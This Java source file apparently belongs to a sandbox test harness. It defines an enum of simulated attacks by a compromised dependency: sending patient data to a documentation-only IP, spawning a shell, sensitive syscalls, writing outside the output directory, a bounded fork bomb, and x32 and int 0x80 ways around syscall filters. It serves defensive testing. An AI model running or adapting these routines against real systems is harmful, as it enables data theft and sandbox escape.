package dev.sandboxed.evil;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;

/**
 * The attacks a compromised dependency could try from inside the normalizer. Each returns one line saying what
 * became of it. Each is harmless even when nothing stops it: it aims at a process id that cannot exist, a path
 * that does not exist, a documentation-only network address, or stops at a bounded number of processes.
 */
enum Attack {
    /** Sends the start of the patient data to a remote host (TEST-NET-1: routed nowhere). */
    EXFILTRATE {
        @Override
        String carryOut(Target target) throws IOException {
            byte[] data = target.input().filter(Files::isRegularFile).map(Attack::head).orElse(new byte[16]);
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress("192.0.2.1", 443), 2000);
                OutputStream out = socket.getOutputStream();
                out.write(data);
                return "sent " + data.length + " bytes to 192.0.2.1:443";
            } catch (IOException e) {
                return "refused: " + e;
            }
        }
    },
    /** Starts a shell, the first step of most hands-on intrusions. */
    SHELL {
        @Override
        String carryOut(Target target) throws InterruptedException {
            try {
                Process shell = new ProcessBuilder("/bin/sh", "-c", "id")
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                        .redirectError(ProcessBuilder.Redirect.DISCARD).start();
                return "ran /bin/sh, exit status " + shell.waitFor();
            } catch (IOException e) {
                return "refused: " + e;
            }
        }
    },
    /** Attaches to another process to read its memory; the pid is above any pid_max, so nothing is ever hit. */
    PTRACE {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.PTRACE.number(), PTRACE_ATTACH, IMPOSSIBLE_PID, 0L, 0L);
        }
    },
    /** Mounts a filesystem, to hide files or shadow the application's view; the mount point does not exist. */
    MOUNT {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.MOUNT.number(), "evil", "/nonexistent/evil", "tmpfs", 0L,
                    null);
        }
    },
    /** Enters a new user namespace, the usual start of a privilege escalation through namespace bugs. */
    UNSHARE {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.UNSHARE.number(), CLONE_NEWUSER);
        }
    },
    /** Joins another namespace (a container escape); the descriptor is invalid. */
    SETNS {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.SETNS.number(), -1L, 0L);
        }
    },
    /** Loads a kernel module; the image is NULL. */
    INIT_MODULE {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.INIT_MODULE.number(), null, 0L, "");
        }
    },
    /** Reads the session keyring, where credentials may be kept. */
    KEYCTL {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.KEYCTL.number(), KEYCTL_GET_KEYRING_ID,
                    KEY_SPEC_SESSION_KEYRING, 0L);
        }
    },
    /** Loads an eBPF program, a large kernel attack surface; the attributes are NULL. */
    BPF {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.BPF.number(), BPF_PROG_LOAD, null, 0L);
        }
    },
    /** Opens a userfaultfd, which exploits use to stall the kernel mid-copy. */
    USERFAULTFD {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.USERFAULTFD.number(), O_CLOEXEC);
        }
    },
    /** Opens a perf event, another favourite of kernel exploits; the attributes are NULL. */
    PERF_EVENT_OPEN {
        @Override
        String carryOut(Target target) {
            return RawSyscall.load(target).call(Syscall.PERF_EVENT_OPEN.number(), null, 0L, -1L, -1L, 0L);
        }
    },
    /** Plants a file next to the input data, outside the output directory. */
    WRITE_OUTSIDE {
        @Override
        String carryOut(Target target) {
            Path input = target.input().orElse(Path.of("."));
            Path directory = Files.isDirectory(input) ? input : input.toAbsolutePath().getParent();
            Path planted = directory.resolve("planted-by-evil-filter.txt");
            try {
                Files.writeString(planted, "evil was here\n", StandardCharsets.UTF_8);
                return "planted " + planted;
            } catch (IOException e) {
                return "refused: " + e;
            }
        }
    },
    /** Starts processes until something stops it, but never more than {@value #FORK_BOMB_LIMIT}. */
    FORK_BOMB {
        @Override
        String carryOut(Target target) throws InterruptedException {
            List<Process> started = new ArrayList<>();
            String stoppedBy = "nothing";
            try {
                while (started.size() < FORK_BOMB_LIMIT) {
                    started.add(new ProcessBuilder("gzip").redirectOutput(ProcessBuilder.Redirect.DISCARD).start());
                }
            } catch (IOException | Error e) {
                stoppedBy = e.toString();
            } finally {
                for (Process process : started) {
                    try {
                        process.getOutputStream().close();
                    } catch (IOException e) {
                        process.destroyForcibly();
                    }
                }
                for (Process process : started) {
                    if (!process.waitFor(10, TimeUnit.SECONDS)) {
                        process.destroyForcibly();
                    }
                }
            }
            return "started " + started.size() + " of " + FORK_BOMB_LIMIT + " processes; stopped by " + stoppedBy;
        }
    },
    /** Calls getpid through the x32 ABI, which filters written only for x86_64 numbers used to miss. */
    X32 {
        @Override
        String carryOut(Target target) {
            if (!RawSyscall.isX86()) {
                return "not applicable on " + System.getProperty("os.arch");
            }
            return RawSyscall.load(target).call(X32_SYSCALL_BIT | Syscall.GETPID.number());
        }
    },
    /** Calls getpid through {@code int 0x80}, the i386 ABI, which a filter checking only numbers would miss. */
    I386 {
        @Override
        String carryOut(Target target) {
            if (!RawSyscall.isX86()) {
                return "not applicable on " + System.getProperty("os.arch");
            }
            byte[] getpidThroughInt80 = {(byte) 0xb8, 20, 0, 0, 0, (byte) 0xcd, (byte) 0x80, (byte) 0xc3};
            return "int 0x80 getpid returned " + RawSyscall.load(target).runMachineCode(getpidThroughInt80);
        }
    };

    static final int FORK_BOMB_LIMIT = 600;
    private static final long PTRACE_ATTACH = 16;
    private static final long IMPOSSIBLE_PID = 0x3fffffffL;
    private static final long CLONE_NEWUSER = 0x10000000L;
    private static final long KEYCTL_GET_KEYRING_ID = 0;
    private static final long KEY_SPEC_SESSION_KEYRING = -3;
    private static final long BPF_PROG_LOAD = 5;
    private static final long O_CLOEXEC = 0x80000;
    private static final long X32_SYSCALL_BIT = 0x40000000L;

    abstract String carryOut(Target target) throws Exception;

    /** The attack called {@code name} ({@code init-module} or {@code INIT_MODULE}). */
    static Attack named(String name) {
        String constant = name.toUpperCase(Locale.ROOT).replace('-', '_');
        return Arrays.stream(values()).filter(a -> a.name().equals(constant)).findFirst()
                .orElseThrow(() -> new IllegalArgumentException("no attack '" + name + "'; the attacks are "
                        + Arrays.stream(values()).map(Attack::id).collect(Collectors.joining(", "))));
    }

    /** The name {@code evil.attack} takes. */
    String id() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    private static byte[] head(Path file) {
        try (var in = Files.newInputStream(file)) {
            return in.readNBytes(1024);
        } catch (IOException e) {
            return new byte[16];
        }
    }
}
